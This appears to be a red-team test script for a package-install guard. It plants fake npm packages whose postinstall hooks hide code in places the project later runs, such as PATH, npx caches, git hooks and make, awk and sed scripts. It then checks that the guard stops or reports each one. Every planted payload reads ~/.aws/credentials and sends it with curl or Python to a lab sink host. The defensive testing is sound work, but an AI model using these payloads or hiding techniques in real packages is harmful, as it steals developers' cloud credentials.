#!/bin/bash
# R53: dependencies that do nothing themselves but leave new code where nobody has a rule for it,
# and what the project itself runs then runs that: as a program, a script, a module, a text that a
# shell reads. It is the package's code, whoever runs it.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R53 'code that a package wrote, and the project runs'
RT_HONEST=(ms) RT_SCRIPTED=()
AT=/tmp/${LAB##*/}-r53
# What the planted code does: takes a file of the home, and says who it is.
js() { # NAME FILE
	printf "require('child_process').execFileSync('curl', ['-s', '--data-binary', \
require('fs').readFileSync('%s'), 'http://%s/%s'])" "$RT_HOME/$2" "$RT_SINK" "$1"
}
mjs() { printf "import {createRequire} from 'module'; const require = createRequire('/'); %s" \
	"$(js "$@")"; }
sh_() { printf 'd=$(cat %s) && curl -s --data-binary "$d" http://%s/%s' "$RT_HOME/$2" "$RT_SINK" \
	"$1"; }
py() { printf "from urllib.request import *; urlopen('http://%s/%s', open('%s', 'rb').read())" \
	"$RT_SINK" "$1" "$RT_HOME/$2"; }
USES=() LOOT=.aws/credentials
# plants NAME CODE SCRIPT USE: CODE is the package's file `code`; SCRIPT plants it; the project
# does USE in its prepare.
plants() {
	mkdir -p "$LAB/packages/$1" && printf '%s\n' "$2" >"$LAB/packages/$1/code"
	rt_package "$1" 1.0.0 - postinstall "$3"
	USES+=("$4")
}
plants module-x "$(js module-x $LOOT)" 'mkdir "$INIT_CWD/gen" && cp code "$INIT_CWD/gen/a.js"' \
	'node build.js ./gen/a.js'
plants temporary-x "$(sh_ temporary-x $LOOT)" "cp code $AT-run.txt" "sh $AT-run.txt"
plants path-x "#!/bin/sh
$(sh_ path-x $LOOT)" 'mkdir -p ~/opt/bin && cp code ~/opt/bin/greet && chmod 755 ~/opt/bin/greet' \
	'PATH=$HOME/opt/bin:$PATH greet'
plants npx-x "$(js npx-x $LOOT)" \
	'd=~/.npm/_npx/0123456789abcdef/node_modules/t && mkdir -p $d && cp code $d/t.js' \
	'node ~/.npm/_npx/0123456789abcdef/node_modules/t/t.js'
plants home-x "$(js home-x $LOOT)" \
	'mkdir -p ~/.node_modules/late && cp code ~/.node_modules/late/index.js' \
	'node build.js late'
plants above-x "$(js above-x $LOOT)" \
	'd="$INIT_CWD/../node_modules/later" && mkdir -p "$d" && cp code "$d/index.js"' \
	'node build.js later'
plants cache-x "$(sh_ cache-x $LOOT)" 'mkdir -p ~/.cache/cx && cp code ~/.cache/cx/env' \
	'. $HOME/.cache/cx/env'
plants moved-x "$(js moved-x $LOOT)" "mkdir d && cp code d/main.js && mv d $AT-moved" \
	"node $AT-moved/main"
plants linked-x "$(js linked-x $LOOT)" "ln code $AT-linked.js" "node $AT-linked.js"
plants renamed-x "$(js renamed-x $LOOT)" "cp code $AT-1 && mv $AT-1 $AT-2 && ln $AT-2 $AT-3.js" \
	"node -r $AT-3.js -e 0"
plants loader-x "$(mjs loader-x $LOOT)" "cp code $AT-loader.mjs" "node --import $AT-loader.mjs -e 0"
plants symlink-x "$(sh_ symlink-x $LOOT)" 'ln -s "$PWD/code" "$INIT_CWD/sync"' 'sh ./sync'
plants mcache-x "$(sh_ mcache-x $LOOT)" \
	'd=../.cache/m && mkdir -p $d && cp code $d/run && chmod 755 $d/run' \
	'sh node_modules/.cache/m/run'
plants python-x "$(py python-x $LOOT)" \
	'mkdir -p "$INIT_CWD/lib" && cp code "$INIT_CWD/lib/extra.py"' \
	'PYTHONPATH=lib python3 -c "import extra"'
plants stdin-x "$(sh_ stdin-x $LOOT)" "cp code $AT-stdin" "sh <$AT-stdin"
plants program-x 'none' "cp /bin/cat $AT-cat" \
	"d=\$($AT-cat $RT_HOME/$LOOT) && curl -s --data-binary \"\$d\" http://$RT_SINK/program-x"
plants writer-x "$(js writer-x $LOOT)" \
	"node -e \"const fs = require('fs'), m = fs.readFileSync('code')
	fs.writeFileSync('$AT-w.js', m)\"" "node $AT-w.js"
# What is no interpreter of scripts takes it for its own.
plants make-x "X := \$(shell $(sh_ make-x $LOOT | sed 's/\$/$$/g'))
all:;" "cp code $AT-inc.mk" "printf 'include $AT-inc.mk' >m.mk; make -s -f m.mk"
plants awk-x "BEGIN { system(\"$(sh_ awk-x $LOOT | sed 's/"/\\"/g')\") }" "cp code $AT-a.awk" \
	"awk -f $AT-a.awk"
plants sed-x "1e $(sh_ sed-x $LOOT)" "cp code $AT-s.sed" "echo | sed -f $AT-s.sed"
plants git-x "#!/bin/sh
$(sh_ git-x $LOOT)" "mkdir $AT-hooks && cp code $AT-hooks/pre-commit && chmod 755 $AT-hooks/*" \
	"git init -q g && git -C g -c user.name=a -c user.email=a@b -c core.hooksPath=$AT-hooks \
commit -q --allow-empty -m x"
names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}")

rt_setup() {
	rm -rf "$AT"-*
	printf '%s\n' "${USES[@]}" >"$LAB/uses"
	lab_as_user "$RT_PROJECT" sh -c 'cat >build.js' <<-'END'
		try { require(process.argv[2]) } catch { }
	END
	lab_as_user "$RT_PROJECT" sh -c 'sed "s/.*/( & )/" >prepare.sh' <"$LAB/uses"
	jq --arg event "${EVENT:-prepare}" '.scripts = {($event): "sh prepare.sh; true"}' \
		"$RT_PROJECT/package.json" >"$LAB/p.json" &&
		cat "$LAB/p.json" >"$RT_PROJECT/package.json"
}
taken() { rt_requests | grep -o '/[a-z]*-x' | tr -d / | sort -u; }

rt_control
rt_is 'the code of each was run' "$(taken)" "$(sort <<<"$names")"

if rt_guarded; then
	rt_is 'what got through' "$(taken)" ''
	rt_is 'exit status' "$RT_STATUS" 86
	for name in $names; do
		rt_ok "$name is accused" rt_events wormsign.verdict=kill package.name="$name"
	done
	rt_no_innocent_accused
	rt_no_survivors
fi

# ---- In another script, what the project starts by its name is stopped, and the rest reported.
EVENT=deploy RT_COMMAND=(sh -c 'npm install; npm run deploy')
if rt_guarded deploy; then
	rt_is 'exit status' "$RT_STATUS" 86
	rt_is 'what got through' "$(taken)" "$(printf '%s\n' awk-x cache-x make-x mcache-x \
		module-x npx-x python-x sed-x stdin-x symlink-x)"
	for name in temporary-x moved-x linked-x renamed-x program-x writer-x loader-x git-x; do
		rt_ok "$name is accused" rt_events wormsign.verdict=kill package.name="$name" \
			'wormsign.effect~killed|refused'
	done
	for name in mcache-x module-x npx-x; do
		rt_ok "$name is reported" rt_events wormsign.verdict=kill package.name="$name" \
			wormsign.flags=only-reported
	done
fi

# ---- Honest: a package generates a source and a worker, as their purpose is; the project compiles
# the one, over what an earlier build has left, and uploads the other with its credentials.
RT_DEPENDENCIES=() RT_ATTACKERS=()
rt_package generator-h 1.0.0 - postinstall 'mkdir -p "$INIT_CWD/src" "$INIT_CWD/public" &&
	echo "exports.a = 1" >"$INIT_CWD/src/gen.js" && echo "1" >"$INIT_CWD/public/worker.js" &&
	echo "all: ; @cp src/gen.js dist/made.js" >"$INIT_CWD/src/gen.mk"'
compile='require("fs").writeFileSync("dist/gen.js", require("fs").readFileSync(process.argv[2]))'
upload="require('fs').readFileSync('$RT_HOME/$LOOT'); console.log('uploaded', \
require('fs').readFileSync(process.argv[2]).length)"
rt_setup() {
	lab_as_user "$RT_PROJECT" sh -c "mkdir dist; echo old >dist/gen.js; echo old >dist/made.js
		echo '$compile' >tsc.js; cat >upload.js" <<<"$upload"
	jq '.scripts = {prepare: "node tsc.js src/gen.js && make -s -f src/gen.mk",
		deploy: "node upload.js public/worker.js"}' "$RT_PROJECT/package.json" \
		>"$LAB/p.json" && cat "$LAB/p.json" >"$RT_PROJECT/package.json"
}
if rt_guarded honest; then
	rt_is 'exit status' "$RT_STATUS" 0
	rt_is 'refused' "$(rt_accusations 'select(."wormsign.flags" != "only-reported") |
		"\(."rule.id") \(."package.name")"')" ''
	rt_ok 'the compiler has done its work' grep -q exports "$RT_PROJECT/dist/gen.js"
	rt_ok 'so has make' grep -q exports "$RT_PROJECT/dist/made.js"
	rt_ok 'and the upload' grep -q 'uploaded 2' "$LAB/out.$RT_LANE"
fi
rm -rf "$AT"-*
rt_end
